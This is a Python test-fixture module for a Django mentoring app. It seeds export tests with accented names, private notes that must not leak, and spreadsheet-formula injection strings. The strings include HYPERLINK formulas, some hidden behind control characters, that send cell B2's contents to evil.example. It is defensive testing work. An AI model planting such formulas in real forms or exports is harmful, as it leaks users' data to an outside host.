"""A pair whose data tries every trap an export can fall into: formulas in names and
comments, accents, and notes (and a private pulse comment) that must never leave the pair."""

from __future__ import annotations

import datetime as dt

from django.utils import timezone

from rementor.mentoring.models import (
    Concern,
    MentoringSession,
    Objective,
    ObjectiveChange,
    PrivateNote,
    Pulse,
)
from rementor.skills.models import Skill
from tests.rementor.mentoring.factories import make_pair

# Each appears once in the database and must appear in no export or report.
SHARED_MARKER = "SHARED-NOTE-7f3a"
PRIVATE_MARKER = "PRIVATE-NOTE-9c1e"
AGENDA_MARKER = "AGENDA-42bd"
CONCERN_MARKER = "CONCERN-5e0d"
# A pulse comment its author kept private: never in a manager's file.
PRIVATE_PULSE_MARKER = "PRIVATE-PULSE-3b8d"
FORMULA = '=HYPERLINK("http://evil.example","x")'


def exported_pair(**kwargs):
    """An active pair with a held and a planned session, notes, pulses and objectives.
    Returns (pair, mentee_user, mentor_user)."""
    pair, mentee_user, mentor_user = make_pair(**kwargs)
    # The sessions and target dates below are fixed (the exports show them as written):
    # so are the dates of the programme they belong to.
    programme = pair.programme
    programme.start_date, programme.end_date = dt.date(2026, 9, 1), dt.date(2027, 3, 31)
    programme.save(update_fields=["start_date", "end_date"])
    mentee_person = pair.mentee.person
    mentee_person.first_name = FORMULA
    mentee_person.last_name = "Zoé"
    mentee_person.save()
    mentor_person = pair.mentor.person
    mentor_person.first_name = "Éléonore"
    mentor_person.last_name = "Lefèvre"
    mentor_person.save()

    start = timezone.make_aware(dt.datetime(2026, 10, 5, 14, 30), dt.UTC)
    held = MentoringSession.objects.create(
        pair=pair,
        starts_at=start,
        duration_minutes=45,
        status="held",
        agenda=AGENDA_MARKER,
        shared_notes=SHARED_MARKER,
    )
    MentoringSession.objects.create(
        pair=pair, starts_at=start + dt.timedelta(days=21), status="planned"
    )
    PrivateNote.objects.create(session=held, author=mentee_user, text=PRIVATE_MARKER)
    Pulse.objects.create(
        session=held,
        author=pair.mentee,
        usefulness=5,
        comfort=4,
        comment="-1 point: trop court",
        comment_shared=True,
    )
    Pulse.objects.create(
        session=held, author=pair.mentor, usefulness=4, comfort=5, comment=PRIVATE_PULSE_MARKER
    )
    objective = Objective.objects.create(
        pair=pair,
        owner="mentee",
        title="@Publier sur LinkedIn",
        skill=Skill.objects.get(code="linkedin"),
        status="in_progress",
        progress=40,
        target_date=dt.date(2026, 12, 1),
    )
    ObjectiveChange.objects.create(objective=objective, reason="trop ambitieux")
    ObjectiveChange.objects.create(objective=objective, reason="recentré")
    Objective.objects.create(pair=pair, owner="mentor", title="Animer", area="leadership")
    Concern.objects.create(pair=pair, author=mentor_user, text=CONCERN_MARKER)
    return pair, mentee_user, mentor_user


# A formula hidden behind a control character (or a non-breaking space and one), as a
# participant could type it in a page form or send it through the API.
HOSTILE_PAGE = '\u0001=HYPERLINK("http://evil.example/?page="&B2,"Click")'
HOSTILE_API = '\u00a0\u0001=HYPERLINK("http://evil.example/?api="&B2,"Click")'


def hostile_entries():
    """A held session's pair whose mentee writes an objective title, a shared pulse comment
    and an idea title through the page forms, and whose mentor writes the same through the
    API, each a formula behind a control character. Returns the pair."""
    from django.urls import reverse

    from tests.conftest import client_for
    from tests.rementor.api.conftest import token_client
    from tests.rementor.mentoring.factories import held

    pair, mentee_user, mentor_user = make_pair()
    session = held(pair, mentor_user)
    page = client_for(mentee_user)
    for name, data in (
        (
            "mentoring:objective_create",
            {
                "owner": "mentee",
                "title": HOSTILE_PAGE,
                "skill": Skill.objects.get(code="linkedin").pk,
                "target_date": str(pair.programme.start_date + dt.timedelta(days=75)),
            },
        ),
        ("mentoring:idea_create", {"title": HOSTILE_PAGE, "description": "x"}),
    ):
        assert page.post(reverse(name, args=[pair.pk]), data).status_code == 302
    response = page.post(
        reverse("mentoring:pulse", args=[session.pk]),
        {"usefulness": "4", "comfort": "4", "comment": HOSTILE_PAGE, "comment_shared": "on"},
    )
    assert response.status_code == 302
    api = token_client(mentor_user)
    for url, data in (
        ("/api/v1/objectives/", {"owner": "mentor", "title": HOSTILE_API, "area": "pedagogy"}),
        ("/api/v1/ideas/", {"title": HOSTILE_API, "description": "x"}),
    ):
        response = api.post(url, {"pair": pair.pk, **data}, format="json")
        assert response.status_code == 201, response.content
    response = api.post(
        "/api/v1/pulses/",
        {
            "session": session.pk,
            "usefulness": 4,
            "comfort": 4,
            "comment": HOSTILE_API,
            "comment_shared": True,
        },
        format="json",
    )
    assert response.status_code == 201, response.content
    return pair
